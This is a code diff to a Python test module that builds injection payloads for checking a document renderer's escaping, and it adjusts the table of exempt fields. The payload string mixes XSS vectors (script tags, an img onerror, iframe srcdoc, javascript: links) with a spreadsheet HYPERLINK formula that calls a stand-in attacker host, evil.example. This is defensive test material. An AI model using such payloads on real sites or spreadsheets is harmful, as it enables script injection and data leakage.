@@ -33,11 +33,13 @@ Field = tuple[type, str]  # (record class, field name)
 
 
 def payload(marker: str) -> str:
+    """One straight quotation mark only (the attribute breakout): two would quote words, which the
+    checker refuses in the source list's prose (yaml-quote) before anything is built."""
     return (
-        f'=HYPERLINK("http://evil.example/?{marker}","x") <script>alert("{marker}")</script> '
-        f'<img src=x onerror=alert("{marker}")> <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe> '
-        f'" onmouseover="alert(1)" x=" [y](onmouseover=alert(1)//) [click](javascript:alert("{marker}")) '
-        f"{{ onclick=alert(1) }} *em*"
+        f"=HYPERLINK(http://evil.example/?{marker}) <script>alert(1)//{marker}</script> "
+        f"<img src=x onerror=alert(1)//{marker}> <iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe> "
+        f'" onmouseover=alert(1) x= [y](onmouseover=alert(1)//) [click](javascript:alert(1)//{marker}) '
+        "{ onclick=alert(1) } *em*"
     )
 
 
@@ -57,6 +59,7 @@ EXEMPT: dict[Field, str] = {
     (Person, "born"): "a date",
     (Person, "died"): "a date",
     (Person, "mention"): "only 'implied'",
+    (Person, "variants"): "spellings of a name: the checker refuses anything else (yaml-value)",
     (Quotation, "text"): "the chapter's words, checked word by word against the page",
     (Quotation, "speaker"): "a reference to a person id",
     (Quotation, "trial"): "a reference to a trial id",
@@ -82,7 +85,6 @@ ONLY_WITH: dict[Field, str] = {(Quotation, "literal"): "russian"}
 # Planted with the field's name kept in front, because the chapter must still be matched by it.
 KEEP_ORIGINAL: dict[Field, str] = {
     (Person, "name"): "a spelling: the chapter's words must stay known names",
-    (Person, "variants"): "spellings the chapter uses (the attack is added as one more)",
 }
 
 
